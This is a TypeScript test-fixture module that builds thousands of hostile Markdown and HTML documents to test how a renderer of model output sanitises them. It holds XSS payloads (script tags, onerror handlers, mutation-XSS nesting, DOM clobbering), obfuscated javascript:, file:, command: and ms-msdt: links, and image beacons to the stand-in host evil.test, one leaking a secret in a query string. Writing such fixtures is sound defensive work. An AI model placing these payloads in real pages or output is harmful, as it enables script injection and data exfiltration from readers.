/** Hostile contents: what has hurt other readers of model output, by class, and generators that mix them. Every address is unmistakable. */
import * as fc from 'fast-check';

const E = 'https://evil.test';

/** HTML that runs, loads, navigates or clobbers when a reader is careless. `xss()` is counted by the tests. */
export const HTML: readonly string[] = [
  `<script>xss()</script>`,
  `<script src="${E}/s.js"></script>`,
  `<img src="${E}/i.png">`,
  `<img src=x onerror=xss()>`,
  `<img srcset="${E}/a.png 1x, ${E}/b.png 2x">`,
  `<svg onload=xss()><image href="${E}/si.png"/><use href="${E}/u.svg#x"/></svg>`,
  `<svg><script>xss()</script></svg>`,
  `<svg><animate attributeName=href values=javascript:xss() /></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>`,
  `<iframe src="${E}/f"></iframe>`,
  `<iframe srcdoc="<script>parent.xss()</script>"></iframe>`,
  `<object data="${E}/o"></object>`,
  `<embed src="${E}/e">`,
  `<link rel=stylesheet href="${E}/l.css">`,
  `<link rel=prefetch href="${E}/p">`,
  `<link rel=dns-prefetch href="//evil.test">`,
  `<meta http-equiv=refresh content="0;url=${E}/m">`,
  `<base href="${E}/">`,
  `<style>@import url(${E}/c.css);body{background:url(${E}/bg.png)}</style>`,
  `<div style="background:url(${E}/d.png)">x</div>`,
  `<video src="${E}/v.mp4" poster="${E}/p.png" autoplay></video>`,
  `<audio src="${E}/a.mp3" autoplay></audio>`,
  `<source srcset="${E}/s.png"><picture><source srcset="${E}/s2.png"><img></picture>`,
  `<form id=app action="${E}/form"><input name=body><input type=image src="${E}/ii.png"><button>go</button></form>`,
  `<input autofocus onfocus=xss()>`,
  `<details open ontoggle=xss()>x</details>`,
  `<body onload=xss()>`,
  `<a href="javascript:xss()">x</a>`,
  `<a href="${E}/ping" ping="${E}/ping2">x</a>`,
  `<a id=probe name=probe>x</a><a id=probe name=oneShot>y</a>`,
  `<form id=document><img name=getElementById></form>`,
  `<div id=app class="page composer row button primary">x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=xss()>">`,
  `<template><img src=x onerror=xss()></template>`,
  `<select><option><style></option></select><img src=x onerror=xss()></style>`,
  `<textarea></textarea><img src=x onerror=xss()>`,
  `<!--><img src=x onerror=xss()>-->`,
  `<![CDATA[<img src=x onerror=xss()>]]>`,
  `<x onclick=xss() tabindex=1>x</x>`,
  `<marquee onstart=xss()>x</marquee>`,
  `<portal src="${E}/po"></portal>`,
  `<track src="${E}/t.vtt">`,
  `<bgsound src="${E}/b.wav">`,
  `<table background="${E}/t.png"><td background="${E}/td.png">x</td></table>`,
  `<button formaction="${E}/fa" data-action="approve" data-href="command:x">x</button>`,
  `<span class="link" role="link" data-href="command:x" data-file="/etc/passwd">x</span>`,
];

/** Schemes and spellings that must never become a link (trust.md S04). */
export const TARGETS: readonly string[] = [
  ...[
    'javascript:xss()',
    'JaVaScRiPt:xss()',
    'javascript&colon;xss()',
    'java&#x09;script:xss()',
    'java&NewLine;script:xss()',
    '&#106;avascript:xss()',
  ],
  ...[
    '\\x01javascript:xss()',
    'javascript\\:xss()',
    '%6aavascript:xss()',
    'javascript%3Axss()',
    'vbscript:x',
    'VBSCRIPT:x',
    'livescript:x',
    'mocha:x',
  ],
  ...[
    'data:text/html,<script>xss()</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
    'DATA:image/svg+xml,<svg/onload=xss()>',
    'data:image/png;base64,AAAA',
  ],
  ...[
    'file:///etc/passwd',
    'FILE:///c:/x',
    'file://evil.test/share',
    'blob:https://evil.test/x',
    'filesystem:https://evil.test/x',
    'about:blank',
  ],
  ...[
    'command:workbench.action.terminal.new',
    'COMMAND:x',
    'command&colon;x',
    'vscode://ext/x',
    'vscode-insiders://x',
    'vscode-file://x',
    'vscode-resource:x',
  ],
  ...[
    'vscode-webview://x',
    'vscode-remote://x',
    'vscode-userdata:x',
    'vscode-settings:x',
    'vscode-notebook:x',
    'untitled:x',
    'git:x',
    'output:x',
    'walkThrough:x',
  ],
  ...[
    'ftp://evil.test',
    'sftp://x',
    'ssh://x',
    'telnet://x',
    'smb://evil.test/x',
    'ws://evil.test',
    'wss://evil.test',
    'git+ssh://x',
    'svn://x',
  ],
  ...[
    'ms-msdt:/id',
    'search-ms:query=x',
    'ms-officecmd:x',
    'ms-word:ofe',
    'shell:startup',
    'tel:1',
    'sms:1',
    'facetime:x',
    'intent://x',
    'market://x',
  ],
  ...[
    'chrome://settings',
    'edge://x',
    'view-source:https://x',
    'jar:https://x!/y',
    'resource://x',
    'x-apple:x',
    'steam://x',
    'zoommtg://x',
    'skype:x',
  ],
  ...[
    '//evil.test/x',
    '\\\\\\\\evil.test\\\\x',
    '/\\\\evil.test',
    '///evil.test',
    'magnet:?x',
    'ipfs://x',
    'ldap://x',
    'gopher://x',
    'news:x',
    'urn:x:y',
  ],
];

/** One document for each way a target can be written. */
export function linkDocuments(target: string): string[] {
  return [
    `[x](${target})`,
    `[x](<${target}>)`,
    `<${target}>`,
    `[x][r]\n\n[r]: ${target}`,
    `[r]\n\n[r]: <${target}> "t"`,
    `![x](${target})`,
    `![x][r]\n\n[r]: ${target}`,
    `[![x](${target})](${target})`,
    `<a href="${target}">x</a>`,
    `- [x](${target} 'on" onclick="xss()')\n> | [x](${target}) |\n> |-|\n> | ![x](${target}) |`,
  ];
}

/** Ways to make a reader load something from Markdown alone. */
export const MEDIA: readonly string[] = [
  `![a](${E}/1.png)`,
  `![a][i]\n\n[i]: ${E}/2.png`,
  `![](<${E}/3.png> "t")`,
  `[![a](${E}/4.png)](${E}/5)`,
  `![a](${E}/?q=SECRET)`,
  '```mermaid\ngraph TD; A["<img src=' + E + '/6.png>"]\n```',
  '```html\n<img src="' + E + '/7.png">\n```',
  '```svg\n<svg><image href="' + E + '/8.png"/></svg>\n```',
  '$$\\includegraphics{' + E + '/9.png}$$',
  `| ![a](${E}/10.png) |\n|-|\n| ![a](${E}/11.png) |`,
  `![a](//evil.test/12.png)`,
  `![a](/13.png) ![a](14.png)`,
  `<${E}/15.png>`,
  `![<img src=x onerror=xss()>](${E}/16.png)`,
  `![a](data:image/svg+xml,<svg/onload=xss()>)`,
];

/** Where a payload can stand. */
const WRAPPERS: readonly ((payload: string) => string)[] = [
  (p) => p,
  (p) => `text ${p} text`,
  (p) => `- ${p}\n  ${p}`,
  (p) => `> ${p}`,
  (p) => `# ${p}`,
  (p) => `| a |\n|---|\n| ${p.replaceAll('\n', ' ')} |`,
  (p) => `**${p}**`,
  (p) => '`' + p + '`',
  (p) => '```html\n' + p + '\n```',
  (p) => '```' + p.replaceAll(/[\n`]/g, ' ') + '\ncode\n```',
  (p) => `    ${p}`,
  (p) => `[${p.replaceAll('\n', ' ')}](https://ok.test)`,
  (p) => `![${p.replaceAll('\n', ' ')}](https://evil.test/w.png)`,
  (p) => `[x](https://ok.test '${p.replaceAll(/[\n']/g, ' ')}')`,
  (p) => `1. a\n\n   ${p}\n\n[x]: ${p.replaceAll('\n', ' ')}`,
  (p) => `\\${p}\n&lt;${p}&#x3c;script>`,
];

/** All fixed documents: every payload in every place, every target in every spelling. At least 2,000. */
export function hostileDocuments(): string[] {
  return [
    ...[...HTML, ...MEDIA].flatMap((payload) => WRAPPERS.map((wrap) => wrap(payload))),
    ...TARGETS.flatMap((target) => linkDocuments(target)),
    ...TARGETS.flatMap((target) => WRAPPERS.slice(1, 6).map((wrap) => wrap(`[y](${target})`))),
  ];
}

const shard = fc.constantFrom(
  ...HTML,
  ...MEDIA,
  ...TARGETS.map((target) => `[x](${target})`),
  ...[
    '<',
    '>',
    '"',
    "'",
    '`',
    '&',
    '\n',
    '\n\n',
    '](',
    '<a href="',
    ' on',
    'error=xss()',
    '</p>',
    '<p ',
    '-->',
    '<!--',
    '\u202e',
    '\u0000',
  ],
);
/** Payloads in pieces, mixed and nested. */
export const hostileDocument: fc.Arbitrary<string> = fc
  .array(fc.tuple(shard, fc.nat(40), fc.nat(WRAPPERS.length - 1)), { minLength: 1, maxLength: 5 })
  .map((parts) =>
    parts
      .map(
        ([text, from, wrap]) => WRAPPERS[wrap]?.(from < 20 ? text : text.slice(from % Math.max(1, text.length))) ?? '',
      )
      .join('\n'),
  );
